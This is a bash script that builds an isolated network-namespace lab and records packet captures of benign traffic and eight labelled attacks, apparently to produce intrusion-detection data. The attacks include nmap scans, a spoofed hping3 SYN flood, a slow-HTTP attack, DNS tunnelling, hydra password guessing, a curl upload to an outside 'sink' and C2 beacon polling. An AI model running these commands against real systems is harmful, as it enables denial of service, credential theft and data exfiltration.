#!/bin/bash
# make-lab.sh [OUTDIR]: record the lab protocol's two captures at once, in
# two separate labs of network namespaces (default OUTDIR /work/lab):
#   OUTDIR/A/A.pcap  benign only, LAB_A_SECONDS (660) long: the baseline
#   OUTDIR/B/B.pcap  another run (another seed, a fifth client, larger
#                    downloads) with benign traffic throughout and eight
#                    attacks spaced by benign traffic, about 18 minutes
# each with labels.json (exact attack labels taken from the capture),
# meta.json, run.log and summary.txt beside it.
# make-lab.sh --run A|B DIR: record one of them (what OUTDIR mode runs twice).
# make-lab.sh --labels DIR: rewrite DIR/labels.json from DIR/?.pcap and the
# events.tsv kept beside it (no root).
#
# tests/lab/README.md describes the lab, the attacks and labels.json.
#
# Each run's namespaces carry its own prefix (la- or lb-), so A and B can be
# recorded at the same time.  The lab of one run:
#
#   P-sw    "switch": bridge br0 in hub mode, one veth port per LAN host
#   P-mon   tcpdump on its switch port sees each LAN frame exactly once
#   P-rtr   10.20.30.1   router to the "outside" (no route anywhere else)
#   P-web   10.20.30.10  nginx, static files of 200 B to 500 KB (6 MiB in B)
#   P-intra 10.20.30.20  nginx, HTTP basic auth (the login service)
#   P-dns   10.20.30.53  dnsmasq: authoritative for lab.test, forwards
#                        t.example.net to 198.51.100.53
#   P-c1..P-c4 10.20.30.101-104  benign clients (curl, dig, ping); B adds
#   P-c5    10.20.30.105 a new benign client
#   P-atk   10.20.30.66  attacker (B only), silent except for its attacks
#   P-o1    198.51.100.53  outside: authoritative DNS for t.example.net
#   P-o2    203.0.113.10 (updates), .80 (beacon's C2), .66:8080 (upload sink)
#
# No namespace has a link to the host's namespace and the router has no
# default route, so nothing can leave the lab.  Every loop is bounded in count
# and time, every tool runs under timeout.
#
# Needs root and, on Debian 12:
#   apt-get install iproute2 tcpdump tshark nginx-light dnsmasq-base curl
#       dnsutils iputils-ping nmap hping3 slowhttptest hydra ethtool python3
# Environment (for quick trials): LAB_A_SECONDS (660), LAB_B_WARMUP (300),
# LAB_B_GAP (45), LAB_B_TAIL (120), LAB_FLOOD_PACKETS (20000),
# LAB_FLOOD_INTERVAL (u1000, hping3 -i), LAB_UPLOAD_MIB (12),
# LAB_TUNNEL_QUERIES (600), LAB_BEACONS (20), LAB_GUESSES (400),
# LAB_SLOW_SECONDS (60).
set -euo pipefail

prog=make-lab.sh
die() { echo "$prog: $*" >&2; exit 1; }
here=$(cd "$(dirname "$0")" && pwd)
py=/usr/bin/python3
[[ -x $py ]] || py=$(command -v python3)

if [[ ${1:-} == --labels ]]; then
	d=${2:?usage: $prog --labels DIR}
	run=$(basename "$(ls "$d"/[AB].pcap | head -1)" .pcap)
	exec "$py" "$here/lab/labels.py" "$d/$run.pcap" "$d/events.tsv" "$d/meta.json" "$d/labels.json"
fi

[[ $EUID -eq 0 ]] || die "must run as root (it creates network namespaces); try: sudo $0 $*"
for t in ip tcpdump tshark capinfos nginx dnsmasq curl dig ping nmap hping3 slowhttptest hydra ethtool timeout awk "$py"; do
	command -v "$t" >/dev/null || die "missing tool: $t"
done

if [[ ${1:-} != --run ]]; then
	out=${1:-/work/lab}
	mkdir -p "$out/A" "$out/B"
	echo "$prog: recording A and B at once into $out (logs: $out/A/run.log, $out/B/run.log)" >&2
	"$0" --run A "$out/A" >"$out/A/run.log" 2>&1 &
	pa=$!
	sleep 3
	"$0" --run B "$out/B" >"$out/B/run.log" 2>&1 &
	pb=$!
	rc=0
	wait "$pa" || { rc=1; echo "$prog: run A failed, see $out/A/run.log" >&2; }
	wait "$pb" || { rc=1; echo "$prog: run B failed, see $out/B/run.log" >&2; }
	cat "$out/A/summary.txt" "$out/B/summary.txt" 2>/dev/null || true
	exit "$rc"
fi

run=${2:?usage: $prog --run A|B DIR}
dir=${3:?usage: $prog --run A|B DIR}
case $run in
A) P=la seed=4242 ;;
B) P=lb seed=9157 ;;
*) die "run must be A or B" ;;
esac
mkdir -p "$dir"
dir=$(cd "$dir" && pwd)

A_SECONDS=${LAB_A_SECONDS:-660}
WARMUP=${LAB_B_WARMUP:-300}
GAP=${LAB_B_GAP:-45}
TAIL=${LAB_B_TAIL:-120}
FLOOD_PACKETS=${LAB_FLOOD_PACKETS:-20000}
FLOOD_INTERVAL=${LAB_FLOOD_INTERVAL:-u1000}
UPLOAD_MIB=${LAB_UPLOAD_MIB:-12}
TUNNEL_QUERIES=${LAB_TUNNEL_QUERIES:-600}
BEACONS=${LAB_BEACONS:-20}
GUESSES=${LAB_GUESSES:-400}
SLOW_SECONDS=${LAB_SLOW_SECONDS:-60}
MAX_SECONDS=3600 # hard stop for every background loop

net=10.20.30
rtr_ip=$net.1
web_ip=$net.10
intra_ip=$net.20
dns_ip=$net.53
atk_ip=$net.66
o1_ip=198.51.100.53
upd_ip=203.0.113.10
c2_ip=203.0.113.80
sink_ip=203.0.113.66
intra_user=alice
intra_pass=lab-Pa55word

# LAN hosts: name, address, last MAC byte
hosts=("web $web_ip 0a" "intra $intra_ip 14" "dns $dns_ip 35"
	"c1 $net.101 65" "c2 $net.102 66" "c3 $net.103 67" "c4 $net.104 68")
clients=(c1 c2 c3 c4)
if [[ $run == B ]]; then
	hosts+=("c5 $net.105 69" "atk $atk_ip 42")
	clients+=(c5)
fi
sw=$P-sw
all_ns=("$sw" "$P-mon" "$P-rtr" "$P-o1" "$P-o2")
for h in "${hosts[@]}"; do all_ns+=("$P-${h%% *}"); done
for ns in "${all_ns[@]}"; do
	if ip netns list | awk '{print $1}' | grep -qx "$ns"; then
		die "namespace $ns already exists (another run, or a stale one: ip netns del $ns)"
	fi
done

tmp=$(mktemp -d "/tmp/make-lab-$run.XXXXXX")
chmod 755 "$tmp"
pids=()
sleep_pid=
made_ns=()
made_etc=()
cleanup() {
	local rc=$?
	set +e
	trap - EXIT INT TERM
	touch "$tmp/stop" 2>/dev/null
	for p in "${pids[@]}" ${sleep_pid:-}; do kill "$p" 2>/dev/null; done
	sleep 0.5
	# anything still running inside our own namespaces was started by us
	for ns in "${made_ns[@]}"; do
		for p in $(ip netns pids "$ns" 2>/dev/null); do kill -9 "$p" 2>/dev/null; done
	done
	for p in "${pids[@]}"; do wait "$p" 2>/dev/null; done
	for ns in "${made_ns[@]}"; do ip netns del "$ns" 2>/dev/null; done
	for d in "${made_etc[@]}"; do rm -rf "$d"; done
	rmdir /etc/netns 2>/dev/null
	rm -rf "$tmp"
	exit "$rc"
}
trap cleanup EXIT
trap 'echo "$prog: interrupted" >&2; exit 130' INT TERM
log() { printf '%s [%s %s] %s\n' "$(date -u +%H:%M:%S)" "$prog" "$run" "$*" >&2; }

# ---------------------------------------------------------------- the lab
log "building the lab ($P-*) in $tmp"
for ns in "${all_ns[@]}"; do
	ip netns add "$ns"
	made_ns+=("$ns")
	ip netns exec "$ns" sysctl -q -w net.ipv6.conf.all.disable_ipv6=1 \
		net.ipv6.conf.default.disable_ipv6=1
	ip -n "$ns" link set lo up
done
ip -n "$sw" link add br0 type bridge ageing_time 0 stp_state 0 mcast_snooping 0
ip -n "$sw" link set br0 up

# offloads NS DEV: off, so the capture holds wire-sized frames
offloads() { ip netns exec "$1" ethtool -K "$2" tx off tso off gso off gro off >/dev/null 2>&1 || true; }
# port NS PORTNAME MACBYTE: a veth from the switch to eth0 in NS
port() {
	ip -n "$sw" link add "$2" type veth peer name eth0 netns "$1"
	ip -n "$1" link set eth0 address "02:00:0a:14:1e:$3"
	offloads "$sw" "$2"
	offloads "$1" eth0
	ip -n "$sw" link set "$2" master br0 up
	ip -n "$1" link set eth0 up
}
# resolv NS NAME ADDR: resolver and hosts file for ip netns exec in NS
resolv() {
	mkdir -p "/etc/netns/$1"
	made_etc+=("/etc/netns/$1")
	printf 'nameserver %s\nsearch lab.test\noptions timeout:1 attempts:2\n' "$dns_ip" >"/etc/netns/$1/resolv.conf"
	printf '127.0.0.1 localhost\n%s %s.lab.test %s\n' "$3" "$2" "$2" >"/etc/netns/$1/hosts"
}
port "$P-mon" p-mon ff
port "$P-rtr" p-rtr 01
ip -n "$P-rtr" addr add "$rtr_ip/24" dev eth0
for h in "${hosts[@]}"; do
	read -r name addr mac <<<"$h"
	port "$P-$name" "p-$name" "$mac"
	ip -n "$P-$name" addr add "$addr/24" dev eth0
	# the lab's own default route: the router, which has none of its own
	ip -n "$P-$name" route add default via "$rtr_ip"
	resolv "$P-$name" "$name" "$addr"
done
# outside: one veth from the router to each outside namespace
ip -n "$P-rtr" link add o1 type veth peer name eth0 netns "$P-o1"
ip -n "$P-rtr" link add o2 type veth peer name eth0 netns "$P-o2"
ip -n "$P-rtr" addr add 198.51.100.1/24 dev o1
ip -n "$P-rtr" addr add 203.0.113.1/24 dev o2
ip -n "$P-o1" addr add "$o1_ip/24" dev eth0
for a in "$upd_ip" "$c2_ip" "$sink_ip"; do ip -n "$P-o2" addr add "$a/24" dev eth0; done
for ns in "$P-rtr" "$P-o1" "$P-o2"; do
	offloads "$ns" eth0
	ip -n "$ns" link set eth0 up 2>/dev/null || true
done
offloads "$P-rtr" o1
offloads "$P-rtr" o2
ip -n "$P-rtr" link set o1 up
ip -n "$P-rtr" link set o2 up
ip -n "$P-o1" route add "$net.0/24" via 198.51.100.1
ip -n "$P-o2" route add "$net.0/24" via 203.0.113.1
ip netns exec "$P-rtr" sysctl -q -w net.ipv4.ip_forward=1
# nmap's UDP scan gets a prompt port-unreachable for every probe
ip netns exec "$P-dns" sysctl -q -w net.ipv4.icmp_ratelimit=0
ip netns exec "$P-dns" sysctl -q -w net.ipv4.icmp_msgs_burst=10000 2>/dev/null || true

# ---------------------------------------------------------------- servers
log "generating web content"
www=$tmp/www
mkdir -p "$www"/{news,css,js,api,img,docs,downloads} "$tmp/intra"
# mkfile PATH BYTES SEED: deterministic text of exactly BYTES bytes
mkfile() {
	awk -v n="$2" -v seed="$3" 'BEGIN {
		srand(seed)
		split("lorem ipsum dolor sit amet network flow packet lab test data " \
		      "server client request reply window baseline model score", w, " ")
		left = n
		while (left > 0) {
			line = ""
			for (i = 0; i < 12; i++) line = line w[int(rand() * 22) + 1] " "
			line = line "\n"
			if (length(line) > left) line = substr(line, 1, left)
			printf "%s", line
			left -= length(line)
		}
	}' >"$1"
}
cd "$www"
mkfile index.html 1200 1
mkfile about.html 1800 2
mkfile contact.html 700 3
mkfile favicon.ico 1150 4
for i in $(seq -w 1 20); do mkfile "news/article$i.html" $((600 + 10#$i * 90)) $((100 + 10#$i)); done
mkfile css/site.css 3100 5
mkfile js/app.js 14200 6
mkfile api/status.json 210 7
mkfile api/items.json 1500 8
mkfile img/logo.png 8200 9
mkfile img/banner.jpg 48000 10
mkfile img/photo.jpg 150000 11
mkfile docs/handbook.pdf 320000 12
mkfile downloads/tool.tar.gz 500000 13
[[ $run == B ]] && head -c $((6 << 20)) /dev/zero | tr '\0' 'x' >downloads/image.iso
cd "$tmp/intra"
mkfile index.html 2400 21
mkfile report.html 9000 22
cd /
printf '%s:{PLAIN}%s\n' "$intra_user" "$intra_pass" >"$tmp/intra/.htpasswd"

# nginx_conf DIR ADDR ROOT [AUTH]: an nginx instance's configuration
nginx_conf() {
	mkdir -p "$1"
	cat >"$1/nginx.conf" <<NGX
user root;
worker_processes 1;
daemon off;
pid $1/nginx.pid;
error_log $1/error.log warn;
events { worker_connections 1024; }
http {
	include /etc/nginx/mime.types;
	default_type application/octet-stream;
	access_log $1/access.log;
	client_body_temp_path $1/body;
	proxy_temp_path $1/proxy;
	fastcgi_temp_path $1/fastcgi;
	uwsgi_temp_path $1/uwsgi;
	scgi_temp_path $1/scgi;
	keepalive_timeout 8s;
	sendfile off;
	server {
		listen $2:80 default_server;
		root $3;
		index index.html;
		${4:+auth_basic "intranet"; auth_basic_user_file $4;}
	}
}
NGX
}
nginx_conf "$tmp/nginx-web" "$web_ip" "$www"
nginx_conf "$tmp/nginx-intra" "$intra_ip" "$tmp/intra" "$tmp/intra/.htpasswd"
for s in web intra; do
	ip netns exec "$P-$s" nginx -t -p "$tmp/nginx-$s" -c "$tmp/nginx-$s/nginx.conf" 2>"$tmp/nginx-$s/t.log" ||
		{ cat "$tmp/nginx-$s/t.log" >&2; die "nginx configuration rejected"; }
	ip netns exec "$P-$s" nginx -p "$tmp/nginx-$s" -c "$tmp/nginx-$s/nginx.conf" &
	pids+=($!)
done

dns_args=(
	--keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts --no-poll
	--user=root --group=root --pid-file= --bind-interfaces --listen-address="$dns_ip"
	--except-interface=lo --no-dhcp-interface=eth0 --local=/lab.test/ --domain-needed
	--bogus-priv --log-facility="$tmp/dnsmasq.log" --server="/t.example.net/$o1_ip"
	--host-record="web.lab.test,$web_ip" --host-record="dns.lab.test,$dns_ip"
	--host-record="ns1.lab.test,$dns_ip" --host-record="intranet.lab.test,$intra_ip"
	--host-record="updates.lab.test,$upd_ip" --cname=www.lab.test,web.lab.test
	--cname=static.lab.test,web.lab.test --mx-host=lab.test,mail.lab.test,10
	--txt-record=lab.test,"v=spf1 mx -all"
)
names=(mail files intranet wiki git ci build backup nas printer1 printer2 vpn
	proxy ldap db1 db2 cache monitor grafana chat calendar time api app1 app2
	dev1 dev2 lab1 lab2 voip camera1 updates)
dns_names=(web www static dns ns1)
i=0
for n in "${names[@]}"; do
	case $n in intranet | updates) ;; *) dns_args+=(--host-record="$n.lab.test,$net.$((150 + i))") ;; esac
	dns_names+=("$n")
	i=$((i + 1))
done
ip netns exec "$P-dns" dnsmasq "${dns_args[@]}" &
pids+=($!)
ip netns exec "$P-o1" "$py" "$here/lab/outside.py" --max-seconds "$MAX_SECONDS" dns "$o1_ip" "$seed" &
pids+=($!)
ip netns exec "$P-o2" "$py" "$here/lab/outside.py" --max-seconds "$MAX_SECONDS" http \
	"$upd_ip:80" "$c2_ip:80" "$sink_ip:8080" &
pids+=($!)

ready=
for _ in $(seq 100); do
	if ip netns exec "$P-c1" curl -s -o /dev/null --max-time 1 "http://$web_ip/api/status.json" 2>/dev/null &&
		ip netns exec "$P-c1" curl -s -o /dev/null --max-time 1 -u "$intra_user:$intra_pass" "http://$intra_ip/" 2>/dev/null &&
		ip netns exec "$P-c1" curl -s -o /dev/null --max-time 1 "http://$upd_ip/ready" 2>/dev/null &&
		ip netns exec "$P-c1" dig +short +time=1 +tries=1 "@$dns_ip" web.lab.test | grep -q . &&
		ip netns exec "$P-c1" dig +short +time=1 +tries=1 "@$dns_ip" TXT ready.t.example.net | grep -q .; then
		ready=1
		break
	fi
	sleep 0.3
done
[[ $ready ]] || die "servers did not come up"
sleep 2

# ---------------------------------------------------------------- clients
cat >"$tmp/client.sh" <<'CLIENT'
#!/bin/bash
# client.sh ID SEED STOPFILE DEADLINE BIG CREDS NAME...: benign traffic until
# STOPFILE exists or the epoch DEADLINE passes (at most 20000 iterations).
# BIG=1 adds a 6 MiB download (run B).
set -u
id=$1 RANDOM=$2 stop=$3 deadline=$4 big=$5 creds=$6
shift 6
names=("$@")
base=http://web.lab.test
small=(/ /index.html /about.html /contact.html /favicon.ico /css/site.css
	/api/status.json /api/items.json)
for i in $(seq -w 1 20); do small+=("/news/article$i.html"); done
medium=(/js/app.js /img/logo.png /img/banner.jpg)
large=(/img/photo.jpg /docs/handbook.pdf /downloads/tool.tar.gz)
((big)) && large+=(/downloads/image.iso /downloads/image.iso)
agents=("Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0"
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/118.0"
	"curl/7.88.1" "lab-monitor/1.2" "python-requests/2.28.1")
peers=(10.20.30.10 10.20.30.20 10.20.30.53 10.20.30.101 10.20.30.102 10.20.30.103 10.20.30.104)
ua=${agents[(id - 1) % ${#agents[@]}]}
pick() { local -n a=$1; echo "${a[RANDOM % ${#a[@]}]}"; }
get() { timeout 30 curl -s -o /dev/null --max-time 25 -A "$ua" "$@" 2>/dev/null; }
nap() { sleep "$(printf '%d.%03d' $(($1 / 1000)) $(($1 % 1000)))"; }

# per-client mix, in 1/10000: small page, keep-alive burst, HEAD/404,
# medium, large, dig name, dig NXDOMAIN, dig other type, dig over TCP,
# intranet login, update check; the rest is ping.
case $id in
1) mix=(1000 250 200 30 3 5700 900 700 100 120 30); napmin=130 napspan=280 ;; # browser
2) mix=(1100 80 150 10 1 6400 800 400 100 60 40); napmin=100 napspan=260 ;;  # API poller
3) mix=(500 100 100 10 1 6200 1500 900 200 30 20); napmin=80 napspan=240 ;;  # DNS-heavy
4) mix=(900 180 250 25 3 5400 1200 600 100 150 30); napmin=130 napspan=300 ;; # mixed
*) mix=(1400 300 100 80 20 4600 600 300 50 300 60); napmin=200 napspan=500 ;; # new: IT laptop
esac
for ((n = 0; n < 20000; n++)); do
	[[ -e $stop ]] && break
	((EPOCHSECONDS < deadline)) || break
	r=$(((RANDOM * 32768 + RANDOM) % 10000))
	k=0
	while ((k < 11 && r >= mix[k])); do r=$((r - mix[k])); k=$((k + 1)); done
	case $k in
	0) if ((id == 2 && RANDOM % 2)); then get "$base/api/status.json"
	   else get "$base$(pick small)"; fi ;;
	1) args=(); m=$((2 + RANDOM % 4)); for ((j = 0; j < m; j++)); do args+=(-o /dev/null "$base$(pick small)"); done
	   timeout 30 curl -s --max-time 25 -A "$ua" "${args[@]}" 2>/dev/null ;;
	2) case $((RANDOM % 3)) in
	   0) get -I "$base$(pick small)" ;;
	   1) get -I "http://www.lab.test$(pick large)" ;;
	   2) get "$base/missing/page$((RANDOM % 50)).html" ;;
	   esac ;;
	3) get "http://static.lab.test$(pick medium)" ;;
	4) get "$base$(pick large)" ;;
	5) timeout 5 dig +short +time=1 +tries=2 "$(pick names).lab.test" >/dev/null 2>&1 ;;
	6) timeout 5 dig +short +time=1 +tries=2 "nohost$((RANDOM % 500)).lab.test" >/dev/null 2>&1 ;;
	7) t=(MX TXT AAAA SOA NS); timeout 5 dig +short +time=1 +tries=2 lab.test "$(pick t)" >/dev/null 2>&1 ;;
	8) timeout 5 dig +tcp +short +time=1 +tries=1 "$(pick names).lab.test" >/dev/null 2>&1 ;;
	9) # intranet: the right password, now and then a typo first
	   ((RANDOM % 20 == 0)) && get -u "${creds%%:*}:wrong" http://intranet.lab.test/
	   p=(/ /report.html); get -u "$creds" "http://intranet.lab.test$(pick p)" ;;
	10) get "http://updates.lab.test/update/check.json?client=$id" ;;
	*) timeout 5 ping -q -n -c $((1 + RANDOM % 3)) -i 0.3 -W 1 "$(pick peers)" >/dev/null 2>&1 ;;
	esac
	nap $((napmin + RANDOM % napspan))
done
CLIENT

# ---------------------------------------------------------------- capture
pcap_tmp=$tmp/capture.pcap
ip netns exec "$P-mon" tcpdump -i eth0 -s 0 -n -U -B 8192 -Z root -w "$pcap_tmp" 2>"$tmp/tcpdump.log" &
tcpdump_pid=$!
pids+=("$tcpdump_pid")
for _ in $(seq 50); do grep -q listening "$tmp/tcpdump.log" && break; sleep 0.1; done
grep -q listening "$tmp/tcpdump.log" || die "tcpdump did not start: $(cat "$tmp/tcpdump.log")"
sleep 0.5

t0=$(date +%s)
big=0
[[ $run == B ]] && big=1
k=1
client_pids=()
for c in "${clients[@]}"; do
	ip netns exec "$P-$c" bash "$tmp/client.sh" "$k" $((seed + k * 101)) "$tmp/stop" \
		$((t0 + MAX_SECONDS)) "$big" "$intra_user:$intra_pass" "${dns_names[@]}" &
	pids+=($!)
	client_pids+=($!)
	k=$((k + 1))
	sleep 0.$((k * 7))
done

# sleep_until EPOCH: sleep in the background so a signal ends the wait at once
sleep_until() {
	local d
	d=$(awk -v a="$1" -v b="$(date +%s.%N)" 'BEGIN { d = a - b; printf "%.3f", (d > 0 ? d : 0) }')
	sleep "$d" &
	sleep_pid=$!
	wait "$sleep_pid"
	sleep_pid=
}
now() { date +%s.%N; }

events=$dir/events.tsv
: >"$events"
# attack NAME TOOL ATTACKERS VICTIMS PROTO PORTS FILTER RULES NS CMD...: run
# CMD in namespace NS (bounded by timeout in CMD) and record its event line
# (with $SHOWN as the command, when set, and $AFTER, how long its packets
# may outlast the command)
attack() {
	local name=$1 tool=$2 atk=$3 vic=$4 proto=$5 ports=$6 flt=$7 rules=$8 ns=$9 s e
	shift 9
	log "attack $name: $*"
	s=$(now)
	ip netns exec "$ns" "$@" >"$tmp/$name.out" 2>&1 || log "$name: exit status $? (ignored)"
	e=$(now)
	printf '%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\n' "$name" "$tool" "${SHOWN:-${*//$'\t'/ }}" \
		"$atk" "$vic" "$proto" "$ports" "$s" "$e" "$flt" "$rules" "${AFTER:-}" >>"$events"
	tail -3 "$tmp/$name.out" | sed "s/^/  $name: /" >&2 || true
}

if [[ $run == A ]]; then
	log "capture started; benign traffic for ${A_SECONDS}s"
	sleep_until $((t0 + A_SECONDS))
else
	log "capture started; benign traffic for ${WARMUP}s before the attacks"
	sleep_until $((t0 + WARMUP))

	# the beacon runs beside the other attacks: an implant on c1 polls its
	# C2 every 20-30 s (jitter from its own seeded RANDOM)
	cat >"$tmp/beacon.sh" <<BEACON
RANDOM=77
for ((i = 0; i < $BEACONS; i++)); do
	[[ -e $tmp/stop ]] && break
	timeout 10 curl -s -o /dev/null --max-time 8 -A "Mozilla/5.0" "http://$c2_ip/c2/poll?id=c1f3a9&seq=\$i"
	sleep \$((20 + RANDOM % 11)).\$((RANDOM % 10))
done
BEACON
	bs=$(now)
	ip netns exec "$P-c1" timeout $((BEACONS * 32 + 10)) bash "$tmp/beacon.sh" &
	beacon_pid=$!
	pids+=("$beacon_pid")

	attack tcp-syn-scan nmap "$atk_ip" "$web_ip" tcp "top 1000" "ip.addr == $atk_ip" \
		"[{\"host\": \"$atk_ip\"}]" "$P-atk" \
		timeout 300 nmap -sS -T4 -Pn -n --top-ports 1000 --max-retries 2 "$web_ip"
	sleep "$GAP"
	attack version-scan "nmap -sV" "$atk_ip" "$intra_ip" tcp "top 100" "ip.addr == $atk_ip" \
		"[{\"host\": \"$atk_ip\"}]" "$P-atk" \
		timeout 300 nmap -sV -T4 -Pn -n --top-ports 100 --max-retries 1 "$intra_ip"
	sleep "$GAP"
	attack udp-scan "nmap -sU" "$atk_ip" "$dns_ip" udp "top 100" "ip.addr == $atk_ip" \
		"[{\"host\": \"$atk_ip\"}]" "$P-atk" \
		timeout 200 nmap -sU -T4 -Pn -n --top-ports 100 --max-retries 1 "$dns_ip"
	sleep "$GAP"
	# the victim retransmits its SYN-ACKs to the forged sources for a minute
	AFTER=60 attack syn-flood hping3 spoofed "$web_ip" tcp 80 \
		"(tcp.dstport == 80 && tcp.flags.syn == 1 && tcp.flags.ack == 0 && ip.dst == $web_ip && !(ip.src == $net.0/24)) || (tcp.srcport == 80 && ip.src == $web_ip && !(ip.dst == $net.0/24)) || (icmp && ip.src == $rtr_ip && ip.dst == $web_ip)" \
		"[{\"proto\": 6, \"dst\": \"$web_ip\", \"dport\": 80, \"src_not_in\": \"$net.0/24\"}, {\"proto\": 1, \"src\": \"$rtr_ip\", \"dst\": \"$web_ip\"}]" \
		"$P-atk" timeout 200 hping3 -q -S -p 80 --rand-source -c "$FLOOD_PACKETS" -i "$FLOOD_INTERVAL" "$web_ip"
	sleep "$GAP"
	attack slow-http slowhttptest "$atk_ip" "$web_ip" tcp 80 "ip.addr == $atk_ip" \
		"[{\"host\": \"$atk_ip\"}]" "$P-atk" \
		timeout $((SLOW_SECONDS + 60)) slowhttptest -H -c 300 -r 60 -i 10 -x 24 -p 3 -l "$SLOW_SECONDS" \
		-u "http://$web_ip/index.html"
	sleep "$GAP"
	cat >"$tmp/tunnel.sh" <<TUNNEL
for ((i = 0; i < $TUNNEL_QUERIES; i++)); do
	[[ -e $tmp/stop ]] && break
	a=\$(head -c 36 /dev/urandom | base32 | tr -d = | tr A-Z a-z)
	b=\$(head -c 20 /dev/urandom | base32 | tr -d = | tr A-Z a-z)
	timeout 3 dig +short +time=1 +tries=1 @$dns_ip TXT "\$a.\$b.s\$i.t.example.net" >/dev/null
	sleep 0.0\$((RANDOM % 10))
done
TUNNEL
	SHOWN="$TUNNEL_QUERIES x dig +short +time=1 +tries=1 @$dns_ip TXT <58 random base32>.<32 random base32>.sN.t.example.net, 0-90 ms apart" \
		attack dns-tunnel "dig (TXT, random labels)" "$net.103" "$dns_ip,$o1_ip" udp 53 \
		"dns.qry.name contains \"t.example.net\"" \
		"[{\"flows_from\": \"dns.flags.response == 0 && dns.qry.name contains \\\"t.example.net\\\"\"}]" \
		"$P-c3" timeout $((TUNNEL_QUERIES / 4 + 60)) bash "$tmp/tunnel.sh"
	sleep "$GAP"
	head -c $((UPLOAD_MIB << 20)) /dev/urandom >"$tmp/archive.tar"
	attack bulk-upload "curl -T" "$net.104" "$sink_ip" tcp 8080 "ip.addr == $sink_ip" \
		"[{\"host\": \"$sink_ip\"}]" "$P-c4" \
		timeout 180 curl -s -o /dev/null --max-time 170 -T "$tmp/archive.tar" "http://$sink_ip:8080/drop/archive.tar"
	sleep "$GAP"
	awk -v n="$GUESSES" 'BEGIN { srand(5); split("pass admin qwerty letmein welcome dragon monkey secret login master", w, " ");
		for (i = 0; i < n; i++) printf "%s%d\n", w[i % 10 + 1], int(rand() * 10000) }' >"$tmp/passwords.txt"
	SHOWN="hydra -I -l admin -P passwords.txt ($GUESSES guesses) -t 4 -W 0 http-get://$intra_ip/" \
		attack password-guessing hydra "$atk_ip" "$intra_ip" tcp 80 "ip.addr == $atk_ip" \
		"[{\"host\": \"$atk_ip\"}]" "$P-atk" \
		timeout 300 bash -c "cd $tmp && exec hydra -I -l admin -P $tmp/passwords.txt -t 4 -W 0 http-get://$intra_ip/"
	log "waiting for the beacon to finish"
	wait "$beacon_pid" || true
	be=$(now)
	printf '%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\n' beacon "curl (periodic, 20-30 s jitter)" \
		"$BEACONS x curl http://$c2_ip/c2/poll, sleep 20-30 s" "$net.101" "$c2_ip" tcp 80 "$bs" "$be" \
		"ip.addr == $c2_ip" "[{\"host\": \"$c2_ip\"}]" >>"$events"
	log "attacks over; ${TAIL}s more benign traffic"
	sleep_until "$(awk -v a="$(now)" -v t="$TAIL" 'BEGIN { printf "%.3f", a + t }')"
fi

touch "$tmp/stop"
for p in "${client_pids[@]}"; do
	timeout 40 tail --pid="$p" -f /dev/null || kill "$p" 2>/dev/null || true
done
sleep 1
kill -INT "$tcpdump_pid"
wait "$tcpdump_pid" || true
grep -E 'captured|dropped' "$tmp/tcpdump.log" | sed 's/^/  tcpdump: /' >&2 || true

cp "$pcap_tmp" "$dir/$run.pcap"
cat >"$dir/meta.json" <<META
{"run": "$run", "seed": $seed, "namespace_prefix": "$P-",
 "lan": "$net.0/24", "router": "$rtr_ip",
 "servers": {"web": "$web_ip", "intranet": "$intra_ip", "dns": "$dns_ip",
  "outside_dns": "$o1_ip", "updates": "$upd_ip", "c2": "$c2_ip", "upload_sink": "$sink_ip"},
 "clients": {$(k=1; for c in "${clients[@]}"; do printf '%s"%s": "%s.%d"' "$([[ $k -gt 1 ]] && echo ', ')" "$c" "$net" $((100 + k)); k=$((k + 1)); done)},
 "attacker": $([[ $run == B ]] && echo "\"$atk_ip\"" || echo null),
 "tcpdump": "$(grep -E 'dropped by kernel' "$tmp/tcpdump.log" | tr -d '"' || true)"}
META
"$py" "$here/lab/labels.py" "$dir/$run.pcap" "$events" "$dir/meta.json" "$dir/labels.json"
{
	echo "== $dir/$run.pcap"
	capinfos -M -c -u -a -e -s "$dir/$run.pcap" | sed 's/^/  /'
	grep -E 'captured|dropped' "$tmp/tcpdump.log" | sed 's/^/  tcpdump: /' || true
	"$py" - "$dir/labels.json" <<'PY'
import json, sys
d = json.load(open(sys.argv[1]))
for a in d["attacks"]:
    print("  %-18s %9.3f .. %9.3f s  %7d packets  %s -> %s" % (
        a["name"], a["start"] - d["first_packet"], a["end"] - d["first_packet"],
        a["packets"], ",".join(a["attackers"]), ",".join(a["victims"])))
PY
} >"$dir/summary.txt"
cat "$dir/summary.txt" >&2
